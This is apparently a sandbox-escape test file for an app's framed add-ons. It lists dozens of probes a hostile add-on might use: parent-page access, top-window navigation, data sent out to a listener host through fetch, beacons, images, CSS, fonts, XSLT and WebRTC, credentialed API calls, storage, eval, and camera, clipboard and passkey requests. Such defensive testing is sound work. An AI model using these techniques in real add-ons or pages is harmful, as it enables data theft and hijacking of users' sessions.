/*
 * What a hostile add-on in a frame tries. A way leads out if it returns true, or if the listener at `outside(name)` hears of it.
 * hostile-scripts.ts puts it into scripts.
 */
// oxlint-disable eslint/no-unused-vars, eslint/no-eval, eslint/no-new-func, eslint/no-new, eslint/no-script-url, typescript/no-implied-eval, unicorn/prefer-add-event-listener -- hostile
const waysOut = (outside) => {
  const socket = (name) => outside(name).replace(/^http/, 'ws')
  /** Puts an element on the page, and waits for its answer. */
  const put = (tag, attributes, inner = '') =>
    new Promise((resolve) => {
      const element = document.createElement(tag)
      element.addEventListener('load', resolve)
      element.addEventListener('error', resolve)
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
      element.innerHTML = inner
      document.body.append(element)
      setTimeout(resolve, 500)
    })
  const link = (rel, more = {}) => ({ [`link ${rel}`]: (name) => put('link', { rel, href: outside(name), ...more }) })
  const click = async (tag, attributes) => {
    const element = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
    document.body.append(element)
    if (tag === 'form') element.submit()
    else element.click()
  }
  const isSet = (code) => {
    delete window.escaped
    code('window.escaped = true')
    return new Promise((resolve) => setTimeout(() => resolve(window.escaped === true), 100))
  }
  const blob = (code, type = 'text/javascript') => URL.createObjectURL(new Blob([code], { type }))
  const innerWindow = () => {
    const frame = document.createElement('iframe')
    document.body.append(frame)
    return frame.contentWindow
  }
  const isWorking = (start) =>
    new Promise((resolve) => {
      const worker = start()
      const port = worker.port ?? worker
      port.onmessage = () => resolve(true)
      worker.onerror = () => resolve(false)
      setTimeout(() => resolve(false), 500)
    })

  const page = {
    'document of the page': () => parent.document !== undefined,
    'document of the top page': () => top.document !== undefined,
    'address of the page': () => parent.location.href !== '',
    'variable of the page': () => parent.eLabSDK2 !== undefined || parent.indexedDB !== undefined,
    'element of the frame': () => frameElement !== null,
    opener: () => opener !== null && opener !== undefined,
    'other frames': () => Array.from({ length: parent.length }, (_, at) => parent[at]).some((frame) => frame !== window && frame.document !== undefined),
    'script in the page': () => isSet((code) => (parent.location = `javascript:${code}`)),
    dialog: () => confirm('Escaped?'),
    origin: () => origin !== 'null',
  }

  /** These would take the control page away. */
  const away = {
    'top page': (name) => void (top.location = outside(name)),
    'top page by its href': (name) => void (top.location.href = outside(name)),
    'top page replaced': (name) => top.location.replace(outside(name)),
    'window opened': (name) => open(outside(name)) !== null,
    'window opened in the top page': (name) => void open(outside(name), '_top'),
    'link to the top page': (name) => click('a', { href: outside(name), target: '_top' }),
    'link to a new window': (name) => click('a', { href: outside(name), target: '_blank' }),
    'form to the top page': (name) => click('form', { action: outside(name), target: '_top' }),
    'form to a new window': (name) => click('form', { action: outside(name), target: '_blank', method: 'post' }),
    'page closed': () => top.close(),
  }

  const network = {
    fetch: (name) => fetch(outside(name)),
    'fetch without CORS': (name) => fetch(outside(name), { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' }),
    'request of the older kind': (name) =>
      new Promise((resolve) => {
        const request = new XMLHttpRequest()
        request.onloadend = resolve
        request.open('GET', outside(name))
        request.send()
      }),
    'request that blocks': (name) => {
      const request = new XMLHttpRequest()
      request.open('GET', outside(name), false)
      request.send()
    },
    'web socket': (name) => new Promise((resolve) => (new WebSocket(socket(name)).onerror = resolve)),
    'event source': (name) => new Promise((resolve) => (new EventSource(outside(name)).onerror = resolve)),
    beacon: (name) => void navigator.sendBeacon(outside(name), 'x'),
    'ping of a link': (name) => click('a', { href: '#here', ping: outside(name) }),
    image: (name) => put('img', { src: outside(name) }),
    'image for a width': (name) => put('img', { srcset: `${outside(name)} 2000w`, sizes: '100vw' }),
    'image in a form': (name) => put('input', { type: 'image', src: outside(name) }),
    'image in a drawing': (name) => put('div', {}, `<svg width="9" height="9"><image href="${outside(name)}" width="9" height="9"/></svg>`),
    'shape in a drawing': (name) => put('div', {}, `<svg width="9" height="9"><use href="${outside(name)}#a"/></svg>`),
    video: (name) => put('video', { src: outside(name), preload: 'auto' }),
    'poster of a video': (name) => put('video', { poster: outside(name) }),
    sound: (name) => put('audio', { src: outside(name), preload: 'auto' }),
    object: (name) => put('object', { data: outside(name) }),
    embedded: (name) => put('embed', { src: outside(name) }),
    'inner frame': (name) => put('iframe', { src: outside(name) }),
    'inner page': (name) => put('iframe', { srcdoc: `<img src="${outside(name)}"><script>fetch("${outside(name)}")</script>` }),
    'fenced frame': (name) => put('fencedframe', { src: outside(name) }),
    script: (name) => put('script', { src: outside(name) }),
    'script as a module': (name) => put('script', { src: outside(name), type: 'module' }),
    'script imported': (name) => import(outside(name)),
    'script in a worker': (name) => void new Worker(outside(name)),
    'script for sound': (name) => new AudioContext().audioWorklet.addModule(outside(name)),
    'style sheet': (name) => put('link', { rel: 'stylesheet', href: outside(name) }),
    'style imported': (name) => put('style', {}, `@import "${outside(name)}";`),
    'style with an image': (name) => put('div', { style: `width: 9px; height: 9px; background: url("${outside(name)}")` }),
    font: (name) => put('div', {}, `<style>@font-face { font-family: Out; src: url("${outside(name)}") }</style><p style="font-family: Out">x</p>`),
    'font that a script loads': (name) => new FontFace('Way', `url("${outside(name)}")`).load(),
    ...link('preload', { as: 'image' }),
    ...link('prefetch'),
    ...link('prerender'),
    ...link('modulepreload'),
    ...link('icon'),
    ...link('manifest'),
    ...link('dns-prefetch'),
    ...link('preconnect'),
    'speculation rules': (name) => put('script', { type: 'speculationrules' }, JSON.stringify({ prefetch: [{ source: 'list', urls: [outside(name)] }] })),
    'report of a policy': (name) =>
      put('meta', { 'http-equiv': 'Content-Security-Policy', content: `img-src 'none'; report-uri ${outside(name)}` }).then(() =>
        put('img', { src: 'data:,x' }),
      ),
    'transform of a document': (name) => {
      const sheet = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><x><xsl:copy-of select="document('${outside(name)}')"/></x></xsl:template></xsl:stylesheet>`
      const [xsl, xml] = [sheet, '<x/>'].map((text) => new DOMParser().parseFromString(text, 'text/xml'))
      const transform = new XSLTProcessor()
      transform.importStylesheet(xsl)
      transform.transformToFragment(xml, document)
    },
    'web transport': (name) => new WebTransport(outside(name).replace('http:', 'https:')).ready,
    'peer connection': (name) => {
      const peers = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(outside(name)).host}` }] })
      peers.createDataChannel('x')
      return peers
        .createOffer()
        .then((offer) => peers.setLocalDescription(offer))
        .then(() => true)
    },
    'peer connection of an inner frame': () => {
      const Peers = innerWindow().RTCPeerConnection
      return new Peers().connectionState === 'new'
    },
    'fetch of an inner frame': (name) => innerWindow().fetch(outside(name)),
  }

  const session = {
    'API with the session': async () => (await fetch('/api/v1/samples', { credentials: 'include' })).ok,
    'API as an image': () =>
      new Promise((resolve) => Object.assign(new Image(), { onload: () => resolve(true), onerror: () => resolve(false), src: '/icon-192.png' })),
    'proxy with the session': async () => (await fetch('/members/fn/proxy/proxy.ashx', { method: 'POST', body: '{}' })).status > 0,
    'script of the app': () => import('/assets/index.js'),
    cookies: () => {
      document.cookie = 'escaped=1'
      return document.cookie.includes('escaped')
    },
    'cookie store': async () => (await cookieStore.set('escaped', '1')) === undefined,
    'local storage': () => localStorage.setItem('escaped', '1') === undefined,
    'session storage': () => sessionStorage.setItem('escaped', '1') === undefined,
    database: () =>
      new Promise((resolve) => {
        const opening = indexedDB.open('escaped')
        opening.onsuccess = () => resolve(true)
        opening.onerror = () => resolve(false)
      }),
    'names of databases': async () => (await indexedDB.databases()).length > 0,
    caches: async () => (await caches.open('escaped')) !== undefined,
    files: async () => (await navigator.storage.getDirectory()) !== undefined,
    locks: () => navigator.locks.request('escaped', () => true),
    'storage access': async () => (await document.requestStorageAccess()) === undefined && document.cookie.length > 0,
    'service worker': async () => (await navigator.serviceWorker.register('/sw.js')) !== undefined,
    'shared worker': () => isWorking(() => new SharedWorker(blob('onconnect = (event) => event.ports[0].postMessage(1)'))),
  }

  const code = {
    eval: () => isSet((text) => eval(text)),
    'function of a text': () => isSet((text) => new Function(text)()),
    'timer with a text': () => isSet((text) => setTimeout(text, 0)),
    'handler in HTML': () => isSet((text) => void put('div', {}, `<img src="data:," onerror="${text}">`)),
    'script in HTML': () => isSet((text) => document.body.append(Object.assign(document.createElement('script'), { textContent: text }))),
    'script of a blob': () => isSet((text) => document.body.append(Object.assign(document.createElement('script'), { src: blob(text) }))),
    'script of a data address': () =>
      isSet((text) => document.body.append(Object.assign(document.createElement('script'), { src: `data:text/javascript,${text}` }))),
    'link with a script': () => isSet((text) => void click('a', { href: `javascript:${text}` })),
    worker: () => isWorking(() => new Worker(blob('postMessage(1)'))),
  }

  const device = {
    camera: async () => (await navigator.mediaDevices.getUserMedia({ video: true })) !== undefined,
    position: () =>
      new Promise((resolve) =>
        navigator.geolocation.getCurrentPosition(
          () => resolve(true),
          () => resolve(false),
        ),
      ),
    notification: async () => (await Notification.requestPermission()) === 'granted',
    clipboard: async () => (await navigator.clipboard.readText()) !== undefined,
    'clipboard of the older kind': () => document.execCommand('paste'),
    'full screen': async () => (await document.documentElement.requestFullscreen()) === undefined && document.fullscreenElement !== null,
    passkey: async () => (await navigator.credentials.get({ publicKey: { challenge: new Uint8Array(32) } })) !== null,
  }
  return { page, away, network, session, code, device }
}
